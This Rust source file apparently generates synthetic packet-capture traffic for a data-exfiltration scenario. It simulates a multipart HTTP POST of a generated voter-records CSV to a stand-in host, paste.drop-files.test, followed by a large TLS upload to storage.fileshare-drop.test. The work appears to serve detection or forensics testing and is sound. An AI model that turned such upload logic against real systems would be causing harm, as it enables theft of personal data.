//! Bulk exfiltration from workstation 10.10.3.64:
//!
//! - 13:01:00 an HTTP POST of a 270 kB multipart file (`voters_export.csv`) to
//!   `paste.drop-files.test` (192.0.2.201), captured whole;
//! - 13:02:00 an HTTPS upload of about 8.4 MB to `storage.fileshare-drop.test` (192.0.2.200);
//!   its data segments are snapped to 96 bytes in the file, so the capture stays small while
//!   the wire lengths (and every flow's byte counts) are the real ones.

use super::benign::light_background;
use super::common::*;
use crate::generate::flow::{TcpSession, Wire};
use crate::generate::net::{self, NS_PER_MS, NS_PER_SEC};
use crate::generate::protocols::http::{self, Request};
use crate::generate::protocols::tls;

pub const HOST: u8 = 64;
pub const PASTE: &str = "paste.drop-files.test";
pub const STORAGE: &str = "storage.fileshare-drop.test";

pub fn build(ctx: &mut Ctx) {
    let t0 = net::START_NS;
    light_background(ctx, t0, 300 * NS_PER_SEC, 4, 36);
    let ws = net::workstation(HOST);

    let paste = net::external(net::v4(192, 0, 2, 201), net::Os::Linux, 12);
    let t = resolve_a(ctx, ws, t0 + 60 * NS_PER_SEC, PASTE, paste.ip);
    let boundary = format!(
        "----WebKitFormBoundary{}",
        ctx.rng.string_from(
            b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789",
            16
        )
    );
    let mut body = format!("--{boundary}\r\nContent-Disposition: form-data; name=\"file\"; filename=\"voters_export.csv\"\r\nContent-Type: text/csv\r\n\r\nvoter_id,first_name,last_name,dob,address,zip,status\r\n").into_bytes();
    let dump = http::voter_dump(&mut ctx.rng, 500_000, 3000);
    body.extend_from_slice(&dump[..dump.len().min(300_000)]);
    body.extend_from_slice(format!("\r\n--{boundary}--\r\n").as_bytes());
    let req = Request::post(
        "/upload",
        PASTE,
        http::UA_CHROME,
        &format!("multipart/form-data; boundary={boundary}"),
        &body,
    )
    .encode();
    let resp = http::response(
        200,
        "OK",
        "application/json",
        &[],
        b"{\"status\":\"ok\",\"url\":\"http://paste.drop-files.test/f/8Kd2pQ\"}",
    );
    http_session(
        ctx,
        ws,
        paste,
        80,
        t + NS_PER_MS,
        200_000,
        40 * NS_PER_MS,
        &[(req, resp)],
        (0, 0),
    );

    let storage = net::external(net::v4(192, 0, 2, 200), net::Os::Linux, 12);
    let t = resolve_a(ctx, ws, t0 + 120 * NS_PER_SEC, STORAGE, storage.ip);
    let port = ctx.port(&ws);
    let mut s = TcpSession::new(
        &mut ctx.rng,
        ws,
        port,
        storage,
        443,
        Wire::between(&ws, &storage),
        t + NS_PER_MS,
        200_000,
        30 * NS_PER_MS,
    );
    s.gap = 100_000; // about 115 Mb/s of upload
    s.handshake(&mut ctx.tl);
    tls_handshake(ctx, &mut s, tls::Client::Chrome, STORAGE);
    s.snap = Some(96);
    let exchanges: Vec<(usize, usize)> = (0..6)
        .map(|_| {
            (
                ctx.rng.range(1_350_000, 1_450_000) as usize,
                ctx.rng.range(300, 500) as usize,
            )
        })
        .collect();
    tls_exchanges(ctx, &mut s, &exchanges, (200 * NS_PER_MS, 900 * NS_PER_MS));
    tls_close(ctx, &mut s, true);
}
